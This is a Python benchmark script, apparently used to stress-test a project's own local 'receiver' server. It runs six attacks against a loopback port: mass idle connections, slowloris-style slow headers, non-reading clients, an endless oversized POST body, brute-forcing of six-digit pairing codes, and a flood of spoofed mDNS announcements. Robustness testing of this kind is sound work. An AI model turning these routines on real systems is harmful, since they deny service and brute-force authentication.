"""A program: strangers who wish a receiver ill. They come from one address, which no other uses.

`python -m benchmarks.attackers ATTACK PORT` goes on until it is ended.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import socket
import sys
from collections.abc import Awaitable, Callable

from zeroconf import DNSAddress, DNSOutgoing, DNSPointer, DNSService, DNSText
from zeroconf.const import _CLASS_IN as IN
from zeroconf.const import _FLAGS_AA as FLAGS_AA
from zeroconf.const import _FLAGS_QR_RESPONSE as FLAGS_QR_RESPONSE
from zeroconf.const import _TYPE_A as A
from zeroconf.const import _TYPE_PTR as PTR
from zeroconf.const import _TYPE_SRV as SRV
from zeroconf.const import _TYPE_TXT as TXT

from receiver.protocol.limits import MDNS_PORT, SERVICE_TYPE

HOST, ADDRESS = "127.0.0.1", "127.0.0.66"
AGAIN_S = 0.1
"""Until who was closed comes again."""
SLOW_S = 0.5
"""Between two bytes of a slow head."""
HEAD = b" HTTP/1.1\r\nHost: 127.0.0.1\r\n"
BLOCK = bytes(range(256)) * 256
TEBIBYTE = 1 << 40

MDNS_GROUP = "224.0.0.251"

Stranger = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
Attack = Callable[[int], Awaitable[None]]
"""Goes on against a port until it is cancelled."""


async def _waits(reader: asyncio.StreamReader, _: asyncio.StreamWriter) -> None:
    """Say nothing."""
    await reader.read()


async def _is_slow(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Never come to the end of a head."""
    writer.write(b"GET /v1/status" + HEAD + b"Slow: ")
    while True:
        await asyncio.sleep(SLOW_S)
        writer.write(b"x")
        await writer.drain()


async def _never_reads(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Ask for more than the other side can send."""
    writer.transport.pause_reading()  # type: ignore[attr-defined] # every transport of TCP can
    while True:
        writer.write(b"GET /v1/schema" + HEAD + b"\r\n")
        await writer.drain()


async def _talks_nonsense(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send a body as fast as it goes."""
    length = f"Content-Type: application/json\r\nContent-Length: {TEBIBYTE}\r\n\r\n".encode()
    writer.write(b"POST /v1/commands" + HEAD + length)
    while True:
        writer.write(BLOCK)
        await writer.drain()


async def _guesses(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Try codes one after the other."""
    for code in itertools.count():
        body = json.dumps({"type": "pair", "id": "1", "code": f"{code % 10**6:06}", "name": "x"})
        kind = f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
        writer.write(b"POST /v1/commands" + HEAD + f"{kind}{body}".encode())
        await reader.readuntil(b"}}")


async def _comes_again(stranger: Stranger, port: int) -> None:
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            ends = await asyncio.open_connection(HOST, port, local_addr=(ADDRESS, 0))
            try:
                await stranger(*ends)
            finally:
                ends[1].transport.abort()
        await asyncio.sleep(AGAIN_S)


def _many(stranger: Stranger, count: int) -> Attack:
    """So many strangers do so at once."""

    async def attack(port: int) -> None:
        async with asyncio.TaskGroup() as tasks:
            for _ in range(count):
                tasks.create_task(_comes_again(stranger, port))

    return attack


async def _announces(port: int) -> None:
    """Say all the time that there is one more receiver."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as mouth:
        mouth.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(HOST))
        for number in itertools.count():
            with contextlib.suppress(BlockingIOError):
                mouth.sendto(_announcement(f"Receiver {number}", port), (MDNS_GROUP, MDNS_PORT))
            await asyncio.sleep(0 if number % 50 else 0.01)


def _announcement(name: str, port: int) -> bytes:
    """That of a receiver which is not there (RFC 6762, RFC 6763)."""
    out = DNSOutgoing(FLAGS_QR_RESPONSE | FLAGS_AA)
    instance, seconds = f"{name}.{SERVICE_TYPE}", 4500
    out.add_answer_at_time(DNSPointer(SERVICE_TYPE, PTR, IN, seconds, instance), 0)
    service = DNSService(instance, SRV, IN, seconds, 0, 0, port, f"{name}.local.")
    out.add_answer_at_time(service, 0)
    text = b"".join(bytes([len(part)]) + part for part in (f"id={name}".encode(), b"v=1"))
    out.add_answer_at_time(DNSText(instance, TXT, IN, seconds, text), 0)
    address = DNSAddress(f"{name}.local.", A, IN, seconds, socket.inet_aton(ADDRESS))
    out.add_answer_at_time(address, 0)
    (packet,) = out.packets()
    return packet


ATTACKS: dict[str, Attack] = {
    "1,000 connections": _many(_waits, 1000),
    "slow heads": _many(_is_slow, 100),
    "clients that do not read": _many(_never_reads, 20),
    "a stream of nonsense": _many(_talks_nonsense, 20),
    "wrong codes": _many(_guesses, 4),
    "a flood of receivers": _announces,
}


if __name__ == "__main__":
    asyncio.run(ATTACKS[sys.argv[1]](int(sys.argv[2])))
